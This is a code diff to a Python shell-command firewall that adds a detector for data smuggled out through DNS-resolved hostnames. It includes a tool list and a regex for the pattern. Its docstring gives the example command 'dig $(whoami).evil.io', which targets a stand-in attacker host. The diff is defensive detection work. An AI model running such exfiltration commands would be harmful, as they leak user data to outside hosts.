@@ -12,6 +12,7 @@ from collections.abc import Iterator, Sequence
 
 from skillopt_sleep.firewall.shell import Command, base, unwrap
 
+REACH_HOST = "reach_host"
 RUN_FETCHED = "run_fetched_code"
 OPEN_SHELL = "open_shell"
 PERSIST = "persist"
@@ -178,6 +179,22 @@ def _shell_or_listener(cmd: Command, cmds: Sequence[Command]) -> str:
     if prog in _SHELLS and _networked(cmd, cmds):
         return "network to shell"
     return ""
+
+
+_LOOKUPS = {"dig", "nslookup", "host", "ping", "ping6", "drill", "resolvectl", "getent",
+            "traceroute", "resolve-dnsname", "test-connection"}
+_SMUGGLED = re.compile(r"(?:\$\(|`|\$\{?\w).*?[)}`\w]\.((?:[a-z0-9-]+\.)+[a-z]{2,})\.?$", re.I)
+
+
+def smuggled(cmds: Sequence[Command]) -> Iterator[Found]:
+    """Data carried out in a name a network command resolves: ``dig $(whoami).evil.io``."""
+    for cmd in cmds:
+        if base(cmd.program) not in _LOOKUPS | _FETCHERS | _NET:
+            continue
+        for word in cmd.args:
+            m = _SMUGGLED.search(word.split("://", 1)[-1].split("/", 1)[0])
+            if m:
+                yield REACH_HOST, f"{m.group(1).lower()} (carrying data)"
 
 
 def _networked(shell: Command, cmds: Sequence[Command]) -> bool:
